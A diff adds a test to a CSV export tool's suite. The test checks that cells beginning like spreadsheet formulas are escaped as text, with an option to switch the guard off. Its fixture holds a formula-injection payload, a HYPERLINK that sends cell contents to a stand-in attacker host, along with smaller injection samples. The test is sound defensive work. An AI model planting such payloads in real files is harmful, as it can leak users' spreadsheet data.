@@ -47,3 +47,34 @@ it("a relative window (30d to now) is the first page's: calls arriving during th
   expect(res.rows).toBe(5);
   expect(file.meta.rows).toBe(5);
 });
+
+it("a CSV cell that would start a spreadsheet formula is written as text; numbers and --no-formula-guard stay exact", async () => {
+  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+  await postEvents(rt.app, rt.rootToken, [
+    validRecord({ user_id: hostile, customer_id: "@SUM(A1:A9)", feature: "-2+3", prompt_version: "-1.5" }),
+  ]);
+  const client = appClient(rt);
+  const cellsOf = async (guard: boolean) => {
+    const out = join(dir, `guard-${guard}.csv`);
+    const opts = { out, format: "csv", progress: false, workspace: "default", formulaGuard: guard };
+    await exportCalls(client, opts, "csv");
+    const [header, ...lines] = readFileSync(out, "utf8").trim().split("\n");
+    const row = lines.find((l) => l.includes("HYPERLINK"))!;
+    // The row's cells by column (only the hostile one holds quotes and commas).
+    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ""));
+    const cols = header!.split(",");
+    const meta = JSON.parse(readFileSync(`${out}.meta.json`, "utf8"));
+    return { get: (c: string) => cells[cols.indexOf(c)], guard: meta.formula_guard };
+  };
+  const guarded = await cellsOf(true);
+  expect(guarded.guard).toBe(true);
+  expect(guarded.get("user_id")).toBe(`"'${hostile.replaceAll('"', '""')}"`);
+  expect(guarded.get("customer_id")).toBe("'@SUM(A1:A9)");
+  expect(guarded.get("feature")).toBe("'-2+3");
+  expect(guarded.get("prompt_version")).toBe("-1.5"); // a number reads as one
+  expect(guarded.get("cost_nanousd")).toMatch(/^\d+$/);
+  const raw = await cellsOf(false);
+  expect(raw.guard).toBe(false);
+  expect(raw.get("user_id")).toBe(`"${hostile.replaceAll('"', '""')}"`);
+  expect(raw.get("feature")).toBe("-2+3");
+});
